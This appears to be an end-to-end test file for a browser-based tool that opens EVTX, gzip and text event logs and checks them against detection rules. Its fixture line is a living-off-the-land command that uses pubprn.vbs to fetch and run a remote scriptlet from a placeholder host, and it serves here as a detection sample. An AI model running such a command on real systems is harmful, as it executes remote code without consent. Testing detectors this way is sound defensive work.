// Files that are more than text: what they were is said, and what can be read of them is evaluated.
import assert from 'node:assert/strict';
import { existsSync, readFileSync, readdirSync } from 'node:fs';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { gzipSync } from 'node:zlib';
import { evtxFile } from './evtx-file.mjs';
import { read } from './editor.mjs';
import { journey } from './journey.mjs';
import { headline } from './states.mjs';

const scriptlet = 'cscript.exe //b C:\\Windows\\System32\\pubprn.vbs 127.0.0.1 script:https://example.com/a.sct';
const open = (page, name, buffer) => page.locator('#events-file').setInputFiles({ name, mimeType: 'application/octet-stream', buffer });
const message = (page, text) => page.getByRole('status', { name: 'Messages' }).getByText(text).waitFor();

journey('an EVTX file is shown as JSON and evaluated, by a program that is loaded for it', async (page, { requests }) => {
  const unpackers = () => requests.filter((address) => address.includes('/unpacker-')).length;
  assert.equal(unpackers(), 0);
  await open(page, 'sysmon.evtx', evtxFile([scriptlet, 'whoami'], ['ipconfig /all']));
  await message(page, 'sysmon.evtx: EVTX file, 3 records, shown as JSON lines.');
  await headline(page, '1 of 3 events matches');
  assert.ok(unpackers() > 0);
  assert.match(await read(page.getByLabel('Events: command lines or log records')), /^\{"Event":/);
});

journey('of an EVTX file with a broken chunk the others are read, and the chunk is named', async (page) => {
  const file = evtxFile([scriptlet], ['whoami']);
  file.fill(0xff, 4096 + 65_536, 4096 + 65_536 + 4);
  await open(page, 'broken.evtx', file);
  await message(page, /broken\.evtx: EVTX file, 1 record, shown as JSON\. Chunk 2 \(at byte 69632\)/);
  await headline(page, 'The event matches');
});

journey('a file of which nothing can be read leaves the text alone', async (page) => {
  await open(page, 'a.txt', Buffer.from(`${scriptlet}\n`));
  await headline(page, 'The event matches');
  await open(page, 'cut.evtx', evtxFile(['whoami']).subarray(0, 3000));
  await message(page, /cut\.evtx was not opened: This EVTX file is cut off in its header/);
  await open(page, 'logs.zip', Buffer.from('PK\x03\x04rest'));
  await message(page, 'logs.zip was not opened: This is a ZIP archive, which is not read.');
  await headline(page, 'The event matches');
});

journey('gzip is taken off, whatever is in it', async (page) => {
  const utf16 = Buffer.from(`\ufeff${scriptlet}\r\nwhoami\r\n`, 'utf16le');
  await open(page, 'lines.txt.gz', gzipSync(utf16));
  await message(page, 'lines.txt.gz: gzip, unpacked: text in UTF-16.');
  await headline(page, '1 of 2 events matches');
  await open(page, 'cut.gz', gzipSync(Buffer.from(`${scriptlet}\n`.repeat(3000))).subarray(0, -9));
  await message(page, /This gzip file is cut off here/);
});

journey('a file that unpacks to more than the page takes is shown up to there', async (page) => {
  await open(page, 'large.gz', gzipSync(Buffer.concat([Buffer.from(`${scriptlet}\n`), Buffer.alloc(129 << 20, `# ${'comment '.repeat(120)}\n`)]), { level: 1 }));
  await message(page, /This file has more than 128 MB of text/);
  await headline(page, 'The event matches');
});

journey('a file that is too large says so at once, and what to do', async (page) => {
  // A real one of 200 MB would have to be sent to the browser first.
  await page.locator('#events-file').evaluate((input) => {
    const file = new File([new Uint8Array(8)], 'huge.ndjson');
    Object.defineProperty(file, 'size', { value: 200 * 2 ** 20 });
    const chosen = new DataTransfer();
    chosen.items.add(file);
    Object.defineProperty(input, 'files', { value: [file], configurable: true });
    Object.defineProperty(input.files, 'item', { value: (at) => (at === 0 ? file : null) });
    input.dispatchEvent(new Event('change', { bubbles: true }));
  });
  await message(page, /huge\.ndjson was not opened: it is 200 MB, and the page takes at most 128 MB at once\. The command line/);
});

// Recorded by Windows; they are no part of the repository.
const shared = process.env.CUTOUT_SHARED ?? fileURLToPath(new URL('../../../shared', import.meta.url));
const recorded = join(shared, 'events/sigma-regression/rules');
const found = existsSync(recorded) ? readdirSync(recorded, { recursive: true }).find((name) => name.endsWith('.evtx')) : undefined;
console.log(`recorded EVTX files: ${found ? 'found, checked' : 'not here, skipped'}`);
if (found) {
  journey('an EVTX file that Windows wrote is read', async (page) => {
    await open(page, 'recorded.evtx', readFileSync(join(recorded, found)));
    await message(page, /recorded\.evtx: EVTX file, \d+ records?, shown as JSON/);
  });
}
